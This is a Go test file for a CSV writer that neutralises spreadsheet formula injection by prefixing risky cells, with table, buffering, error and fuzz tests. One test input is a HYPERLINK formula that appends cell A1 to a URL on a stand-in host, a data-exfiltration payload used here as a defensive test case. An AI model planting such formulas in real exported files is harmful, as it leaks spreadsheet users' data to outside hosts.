package csvsafe

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
)

func TestNeutralise(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		cell string
		want string
	}{
		{name: "empty", cell: "", want: ""},
		{name: "plain text", cell: "hello", want: "hello"},
		{name: "equals formula", cell: "=1+1", want: "'=1+1"},
		{name: "hyperlink", cell: `=HYPERLINK("http://x/?"&A1)`, want: `'=HYPERLINK("http://x/?"&A1)`},
		{name: "plus", cell: "+41 79 000", want: "'+41 79 000"},
		{name: "minus", cell: "-2+3", want: "'-2+3"},
		{name: "at", cell: "@SUM(A1:A2)", want: "'@SUM(A1:A2)"},
		{name: "tab", cell: "\t=1", want: "'\t=1"},
		{name: "carriage return", cell: "\r=1", want: "'\r=1"},
		{name: "formula char later", cell: "a=b", want: "a=b"},
		{name: "leading space", cell: " =1", want: " =1"},
		{name: "single quote already", cell: "'=1", want: "'=1"},
		{name: "newline first", cell: "\n=1", want: "\n=1"},
		{name: "unicode", cell: "Zoë", want: "Zoë"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if got := Neutralise(tt.cell); got != tt.want {
				t.Errorf("Neutralise(%q) = %q, want %q", tt.cell, got, tt.want)
			}
		})
	}
}

func TestWriter(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name    string
		records [][]string
		want    string
	}{
		{name: "plain", records: [][]string{{"a", "b"}, {"c", "d"}}, want: "a,b\nc,d\n"},
		{name: "formula quoted by csv too", records: [][]string{{"=1,2", "x"}}, want: "\"'=1,2\",x\n"},
		{name: "quotes escaped", records: [][]string{{`say "hi"`}}, want: "\"say \"\"hi\"\"\"\n"},
		{name: "embedded newline", records: [][]string{{"a\nb", "-1"}}, want: "\"a\nb\",'-1\n"},
		{name: "tab first", records: [][]string{{"\tx"}}, want: "'\tx\n"},
		{name: "carriage return first", records: [][]string{{"\rx", "y"}}, want: "\"'\rx\",y\n"},
		{name: "json cell", records: [][]string{{`{"a": "=b"}`}}, want: "\"{\"\"a\"\": \"\"=b\"\"}\"\n"},
		{name: "empty cells", records: [][]string{{"", "", ""}}, want: ",,\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			var buf bytes.Buffer
			w := NewWriter(&buf)
			for _, rec := range tt.records {
				if err := w.Write(rec); err != nil {
					t.Fatalf("Write: %v", err)
				}
			}
			if err := w.Flush(); err != nil {
				t.Fatalf("Flush: %v", err)
			}
			if got := buf.String(); got != tt.want {
				t.Errorf("output = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestWriterKeepsCallerRecord(t *testing.T) {
	t.Parallel()
	rec := []string{"=a", "b", "@c"}
	w := NewWriter(&bytes.Buffer{})
	if err := w.Write(rec); err != nil {
		t.Fatal(err)
	}
	if rec[0] != "=a" || rec[2] != "@c" {
		t.Errorf("Write changed the caller's record: %q", rec)
	}
}

func TestWriterBuffers(t *testing.T) {
	t.Parallel()
	var cw countingWriter
	w := NewWriter(&cw)
	for range 1000 {
		if err := w.Write([]string{"0123456789", "abcdefghij"}); err != nil {
			t.Fatal(err)
		}
	}
	if cw.calls != 0 {
		t.Errorf("%d writes reached the underlying writer before Flush, want 0", cw.calls)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if cw.calls != 1 {
		t.Errorf("Flush made %d writes, want 1", cw.calls)
	}
}

func TestWriterReportsErrors(t *testing.T) {
	t.Parallel()
	w := NewWriter(failingWriter{})
	if err := w.Write([]string{"a"}); err != nil {
		t.Fatalf("Write buffered, want no error yet: %v", err)
	}
	if err := w.Flush(); !errors.Is(err, errDiskFull) {
		t.Errorf("Flush error = %v, want %v", err, errDiskFull)
	}
}

type countingWriter struct{ calls int }

func (c *countingWriter) Write(p []byte) (int, error) { c.calls++; return len(p), nil }

var errDiskFull = errors.New("disk full")

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errDiskFull }

// FuzzWriter checks that whatever the cells hold, the output is byte for
// byte what encoding/csv writes for the neutralised cells, parses back
// into the same cells (neutralised where needed), and that no parsed cell
// starts a formula.
func FuzzWriter(f *testing.F) {
	for _, seed := range [][3]string{
		{"a", "b", "c"}, {"=1+1", "+x", "-y"}, {"@z", "\tq", "\rr"}, {"a,b", `"q"`, "x\ny"},
		{"", "", ""}, {"\r\n", " \t", "'="}, {"\xff\xfe", "\\.", "é"}, {"\u00a0x", "\u2003,", "=\\."},
	} {
		f.Add(seed[0], seed[1], seed[2])
	}
	f.Fuzz(func(t *testing.T, a, b, c string) {
		in := []string{a, b, c}
		var buf bytes.Buffer
		w := NewWriter(&buf)
		if err := w.Write(in); err != nil {
			t.Fatalf("Write: %v", err)
		}
		if err := w.Flush(); err != nil {
			t.Fatalf("Flush: %v", err)
		}
		// Byte for byte what encoding/csv writes for the neutralised cells.
		var std bytes.Buffer
		sw := csv.NewWriter(&std)
		if err := sw.Write([]string{Neutralise(a), Neutralise(b), Neutralise(c)}); err != nil {
			t.Fatal(err)
		}
		if sw.Flush(); buf.String() != std.String() {
			t.Fatalf("wrote %q, encoding/csv writes %q", buf.String(), std.String())
		}
		r := csv.NewReader(&buf)
		r.FieldsPerRecord = 3
		got, err := r.Read()
		if err != nil {
			t.Fatalf("read back %q: %v", buf.String(), err)
		}
		for i, cell := range got {
			// encoding/csv's reader folds \r\n into \n inside quoted cells.
			want := strings.ReplaceAll(Neutralise(in[i]), "\r\n", "\n")
			if cell != want {
				t.Errorf("cell %d: read back %q, want %q", i, cell, want)
			}
			if NeedsQuote(cell) {
				t.Errorf("cell %d reads back as %q, which starts a formula", i, cell)
			}
		}
	})
}
